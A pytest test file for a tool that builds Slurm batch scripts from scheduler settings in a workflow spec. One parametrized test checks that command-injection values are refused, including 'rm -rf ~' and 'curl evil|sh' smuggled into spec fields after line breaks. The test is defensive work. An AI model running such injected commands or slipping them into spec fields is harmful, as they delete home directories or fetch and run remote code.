"""The batch script of an allocation, from the spec's scheduler: pure text."""

from __future__ import annotations

import json
from pathlib import Path

import msgspec
import pytest

from jobstream.errors import ConfigError, SpecError
from jobstream.slurm.script import SlurmScheduler, batch_script, sbatch_lines, scheduler_named
from jobstream.spec import parse_spec
from jobstream.spec.units import slurm_time_seconds

EXTRAS = {
    "slurm_schedulers": [
        {"name": "cpu", "account": "p1", "walltime": "04:00:00", "partition": "short"},
        {"name": "wide", "account": "p1", "nodes": 3, "extra": "--exclusive"},
    ]
}


def script(scheduler: SlurmScheduler, folder: str = "/scratch/my runs/a1") -> str:
    return batch_script(
        scheduler,
        {"constraint": "avx2", "partition": "ignored"},
        job_name="jobstream-wf1",
        folder=Path(folder),
        jobstream=["/opt/py/bin/python", "-m", "jobstream"],
        creds=Path(folder) / "worker.json",
        idle_timeout_s=60,
    )


def test_a_scheduler_is_found_by_name_or_the_error_lists_the_names() -> None:
    assert scheduler_named(EXTRAS, "cpu", "wf1").partition == "short"
    with pytest.raises(ConfigError, match=r"no slurm scheduler 'gpu' .*cpu, wide"):
        scheduler_named(EXTRAS, "gpu", "wf1")
    with pytest.raises(ConfigError, match="spec has no slurm_schedulers"):
        scheduler_named({}, "cpu", "wf1")


def test_options_come_from_the_scheduler_then_the_defaults() -> None:
    lines = sbatch_lines(scheduler_named(EXTRAS, "cpu", "wf1"), {"constraint": "avx2",
                                                                   "partition": "long"})  # fmt: skip
    assert lines == [
        "#SBATCH --account=p1",
        "#SBATCH --nodes=1",
        "#SBATCH --time=04:00:00",
        "#SBATCH --partition=short",
        "#SBATCH --constraint=avx2",
    ]


def test_one_node_execs_the_worker_with_what_slurm_allocated() -> None:
    text = script(scheduler_named(EXTRAS, "cpu", "wf1"))
    assert text.startswith("#!/bin/bash\n#SBATCH --job-name=jobstream-wf1\n")
    last = text.strip().splitlines()[-1]
    assert last.startswith(
        "exec /opt/py/bin/python -m jobstream --creds '/scratch/my runs/a1/worker.json' worker "
        "--idle-timeout 60 --log-dir '/scratch/my runs/a1/logs' --walltime \"$left\""
    )
    assert 'left=$(squeue -h -j "$SLURM_JOB_ID" -o %L' in text
    assert "*) left=14400 ;;" in text  # 04:00:00, in seconds
    assert '--cpus "$SLURM_CPUS_ON_NODE"' in last and "SLURM_GPUS_ON_NODE" in last


def test_several_nodes_start_one_worker_each_with_srun() -> None:
    text = script(scheduler_named(EXTRAS, "wide", "wf1"))
    assert "#SBATCH --nodes=3" in text and "#SBATCH --exclusive" in text
    assert (
        text.strip()
        .splitlines()[-1]
        .startswith("srun --nodes=$SLURM_JOB_NUM_NODES --ntasks-per-node=1 /opt/py/bin/python")
    )


def parse_with_scheduler(entry: dict[str, str]) -> None:
    """Parse a one-job spec whose one Slurm scheduler is ``entry``."""
    spec = {"name": "w", "slurm_schedulers": [entry], "jobs": [{"name": "j", "command": "true"}]}
    parse_spec(json.dumps(spec), "w.json", "json")


@pytest.mark.parametrize(
    ("field", "value", "says"),
    [
        ("account", "proj\nrm -rf ~", "line break"),
        ("partition", "debug --wrap=x", "one word"),
        ("extra", "--exclusive\n#SBATCH --x\ncurl evil|sh", "line break"),
        ("walltime", "", "one word"),
    ],
)
def test_a_value_that_would_add_lines_or_options_to_the_script_is_refused(
    field: str, value: str, says: str
) -> None:
    """A spec (perhaps a submitter's) must not put commands into a script that the
    server's user submits: refused when submitted, and again when the script is made."""
    entry = {"name": "s", "account": "proj", field: value}
    with pytest.raises(SpecError, match=f"{field}.*{says}"):
        parse_with_scheduler(entry)
    scheduler = msgspec.convert(entry, SlurmScheduler)
    with pytest.raises(ConfigError, match=says):
        sbatch_lines(scheduler, {})
    with pytest.raises(ConfigError, match="line break"):
        sbatch_lines(SlurmScheduler(name="s", account="p"), {"mail-user": "a@b\nid"})


@pytest.mark.parametrize(
    ("field", "value", "says"),
    [
        ("walltime", "soon", "invalid walltime 'soon'"),
        ("gres", "gpu:a:b:c", "cannot read GPUs"),
        ("mem", "lots", "mem: invalid memory 'lots'"),
    ],
)
def test_a_scheduler_autoalloc_could_not_read_is_refused_at_submission(
    field: str, value: str, says: str
) -> None:
    with pytest.raises(SpecError, match=f"slurm_schedulers.*{field}.*{says}"):
        parse_with_scheduler({"name": "s", "account": "proj", field: value})


def test_a_slurm_time_is_read_as_slurm_reads_it() -> None:
    assert [slurm_time_seconds(t) for t in ("90", "1:30", "01:30:00", "1-2", "1-2:30")] == [
        5400, 90, 5400, 93600, 95400,
    ]  # fmt: skip
    scheduler = SlurmScheduler(name="s", account="p", walltime="90")  # minutes, to Slurm
    assert "*) left=5400 ;;" in script(scheduler)


def test_a_default_named_extra_is_an_option_beside_the_schedulers_own_extra() -> None:
    """sbatch's own ``--extra`` from slurm_defaults; it was dropped for a while."""
    lines = sbatch_lines(SlurmScheduler(name="s", account="p", extra="--exclusive"), {"extra": "t"})
    assert "#SBATCH --extra=t" in lines and lines[-1] == "#SBATCH --exclusive"
